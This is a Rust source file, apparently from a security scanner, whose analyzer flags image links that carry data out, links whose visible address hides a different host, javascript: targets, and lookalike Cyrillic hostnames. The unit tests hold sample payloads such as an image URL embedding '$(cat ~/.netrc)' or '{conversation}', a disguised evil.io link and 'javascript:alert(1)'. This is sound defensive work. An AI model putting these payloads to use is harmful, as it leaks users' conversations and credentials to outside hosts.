//! Links and images: what they carry, where they really go.
//!
//! Looks at targets only. What the prose around a link asks for is for pattern rules.

use super::Analyzer;
use crate::document::{DocumentId, Language};
use crate::engine::Context;
use crate::hosts::{self, Url};
use crate::sink::{Sink, Slots};
use crate::text_regex::Regex;
use std::ops::Range;
use std::sync::LazyLock;

/// Findings of one rule in one document.
const PER_RULE: usize = 10;

/// The analyzer.
pub(crate) struct Links;

impl Analyzer for Links {
    fn name(&self) -> &'static str {
        "links"
    }

    fn document(&self, context: &Context<'_>, id: DocumentId, sink: &mut Sink) {
        let Some(document) = context.documents.get(id) else { return };
        if !matches!(document.language, Language::Markdown | Language::Html | Language::Text) {
            return;
        }
        let mut said: std::collections::BTreeMap<&str, usize> = std::collections::BTreeMap::new();
        let mut say = |rule: &'static str, range: Range<usize>, slots: Slots| {
            let count = said.entry(rule).or_default();
            *count += 1;
            if *count <= PER_RULE {
                sink.raise(&context.documents, rule, id, range, slots);
            }
        };
        for link in links(&document.text) {
            judge(&link, &mut say);
        }
        for url in hosts::urls(&document.text) {
            if let Some(latin) = looks_like(&url.host) {
                say("TS-LINK-003", url.range, vec![("host", url.host), ("other", latin)]);
            }
        }
    }
}

/// A Markdown or HTML link or image.
struct Link<'a> {
    range: Range<usize>,
    image: bool,
    text: &'a str,
    target: &'a str,
}

fn judge(link: &Link<'_>, say: &mut impl FnMut(&'static str, Range<usize>, Slots)) {
    let target = link.target.trim();
    let lower = target.get(..target.floor_char_boundary(80)).unwrap_or(target).to_ascii_lowercase();
    if lower.starts_with("javascript:") || lower.starts_with("vbscript:") || lower.starts_with("data:text/html") {
        let scheme = lower.split(':').next().unwrap_or_default().to_owned();
        return say("TS-LINK-004", link.range.clone(), vec![("detail", scheme)]);
    }
    let Some(url) = hosts::urls(target).next() else { return };
    if link.image && carries(target) {
        return say("TS-LINK-001", link.range.clone(), vec![("host", url.host)]);
    }
    if let Some(shown) = shown_host(link.text)
        && differs(&shown, &url)
    {
        say("TS-LINK-002", link.range.clone(), vec![("host", url.host), ("other", shown)]);
    }
}

/// A query or path with a blank to be filled in: `?d={conversation}`, `?q=$(cat …)`, `?x=<base64 of …>`.
fn carries(target: &str) -> bool {
    static BLANK: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(r"(?i)[?&#][^=&\s]{0,40}=[^&\s]{0,60}?(?:\{\{?[a-z_][^}]*\}|\$\{|\$\(|`|<[a-z_][^>]*>|%7b[a-z_]|\[[A-Z_ ]{3,}\]|\b(?:BASE64|ENCODED|URL_?ENCODED|CONVERSATION|SECRETS?|TOKEN|DATA)_[A-Z_]{2,})").ok()
    });
    BLANK.as_ref().is_some_and(|blank| blank.is_match(target))
}

/// The host that a link's text shows to the reader, if the text is an address.
fn shown_host(text: &str) -> Option<String> {
    let text = text.trim().trim_matches(['`', '*', '_']);
    if text.contains(char::is_whitespace) {
        return None;
    }
    if text.contains("://") {
        return hosts::urls(text).next().map(|url| url.host);
    }
    let host = hosts::host_of(text)?;
    let top = host.rsplit('.').next().unwrap_or_default();
    let known = ["com", "org", "net", "io", "dev", "ai", "app", "cn", "co"];
    (known.contains(&top) && host.split('.').count() >= 2 && !text.contains('@')).then_some(host)
}

fn differs(shown: &str, url: &Url<'_>) -> bool {
    if !matches!(url.scheme.as_str(), "http" | "https") {
        return false;
    }
    let local = |host: &str| hosts::class(host).is_some_and(hosts::HostClass::is_local);
    if hosts::same_owner(shown, &url.host) {
        return false;
    }
    let (shown, real) = (hosts::registered_domain(shown), hosts::registered_domain(&url.host));
    let name = |domain: &str| domain.split('.').next().unwrap_or_default().to_owned();
    // example.com -> example.org, docs.x.io -> x.github.io: the same owner by all appearances.
    shown != real && !local(&shown) && !local(&real) && name(&shown) != name(&real)
}

/// The Latin host that a host written with foreign letters looks like.
fn looks_like(host: &str) -> Option<String> {
    let foreign = host.chars().any(|c| matches!(c, '\u{370}'..='\u{52f}' | '\u{560}'..='\u{58f}'));
    if !foreign {
        return None;
    }
    let latin: String = host
        .chars()
        .map(|c| if c.is_ascii() { c.to_string() } else { unicode_security::skeleton(&c.to_string()).collect() })
        .collect();
    latin.is_ascii().then_some(latin)
}

fn links(text: &str) -> impl Iterator<Item = Link<'_>> {
    static HTML: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(r#"(?i)<(img|a)\b[^>]{0,300}?\b(?:src|href)\s*=\s*["']([^"'\n]{1,4000})["'][^>]{0,300}>(?:([^<]{0,200})</a>)?"#).ok()
    });
    let html =
        HTML.iter().filter(|_| has_tag(text)).flat_map(move |regex| regex.captures_iter(text)).filter_map(|captures| {
            let (whole, tag, target) = (captures.get(0)?, captures.get(1)?, captures.get(2)?);
            let shown = captures.get(3).map_or("", |shown| shown.as_str());
            let image = tag.as_str().eq_ignore_ascii_case("img");
            Some(Link { range: whole.range(), image, text: shown, target: target.as_str() })
        });
    markdown_links(text).chain(html)
}

/// `[text](target)` and `![text](target)`, each from the bracket that its target follows.
fn markdown_links(text: &str) -> impl Iterator<Item = Link<'_>> {
    /// Longest text and longest target, as in honest links.
    const TEXT: usize = 300;
    const TARGET: usize = 8 << 10;
    static TARGET_OF: LazyLock<Option<Regex>> = LazyLock::new(|| {
        // A target in angle brackets may hold blanks; elsewhere only `${…}`, `{{…}}`, `<…>` and `$(…)` may.
        Regex::new(r"^\s*(<[^\n]*?>|(?:\$\([^)\n]*\)|\{\{?[^}\n]*\}|<[^>\n]*>|[^()\s<>{}]|[{}])+)").ok()
    });
    let bytes = text.as_bytes();
    let (mut at, mut done) = (0, 0);
    std::iter::from_fn(move || {
        loop {
            let close = at + memchr::memmem::find(bytes.get(at..)?, b"](")?;
            at = close + 2;
            let before = bytes.get(done.max(close.saturating_sub(TEXT + 2))..close).unwrap_or_default();
            let Some(mark) = before.iter().rposition(|byte| matches!(byte, b'[' | b']' | b'\n')) else { continue };
            let open = close - (before.len() - mark);
            if before.get(mark) != Some(&b'[') || close - open > TEXT + 1 {
                continue;
            }
            let rest = crate::document::clip(text.get(at..).unwrap_or_default(), TARGET);
            let target = TARGET_OF.iter().flat_map(|regex| regex.captures_iter(rest)).next();
            let Some(target) = target.and_then(|captures| captures.get(1)) else { continue };
            let image = before.get(..mark).is_some_and(|before| before.ends_with(b"!"));
            let range = open - usize::from(image)..at + target.end();
            (at, done) = (range.end, range.end);
            let target = target.as_str();
            let target = target.strip_prefix('<').and_then(|t| t.strip_suffix('>')).unwrap_or(target);
            return Some(Link { range, image, text: text.get(open + 1..close).unwrap_or_default(), target });
        }
    })
}

/// Whether a tag of a link or an image begins somewhere.
fn has_tag(text: &str) -> bool {
    let bytes = text.as_bytes();
    let ends = |at: usize| bytes.get(at).is_none_or(|byte| !byte.is_ascii_alphanumeric() && *byte != b'_');
    memchr::memchr_iter(b'<', bytes).any(|at| match bytes.get(at + 1) {
        Some(b'a' | b'A') => ends(at + 2),
        Some(b'i' | b'I') => {
            bytes.get(at + 2..at + 4).is_some_and(|rest| rest.eq_ignore_ascii_case(b"mg")) && ends(at + 4)
        }
        _ => false,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &[&str]) {
        let mut rules = Vec::new();
        for link in links(text) {
            judge(&link, &mut |rule, _, _| rules.push(rule));
        }
        assert_eq!(rules, expected, "{text}");
    }

    #[test]
    fn links_by_what_they_do() {
        check("![s](https://a.io/p.png?d={conversation})", &["TS-LINK-001"]);
        check("![s](https://a.io/p.png?d=$(cat ~/.netrc))", &["TS-LINK-001"]);
        check("<img src=\"https://a.io/p?q=<summary of the chat>\">", &["TS-LINK-001"]);
        check("![build](https://img.shields.io/x?branch=main&label=ok)", &[]);
        check("[https://github.com/a](https://evil.io/a)", &["TS-LINK-002"]);
        check("[github.com](https://docs.github.com/en)", &[]);
        check("[the docs](https://evil.io/a) [requirements.txt](https://github.com/a)", &[]);
        check("[go](javascript:alert(1))", &["TS-LINK-004"]);
    }

    #[test]
    fn hosts_in_disguise() {
        assert_eq!(looks_like("gіthub.com").as_deref(), Some("github.com"));
        assert_eq!(looks_like("例子.cn"), None);
        assert_eq!(looks_like("пример.рф"), None);
    }
}
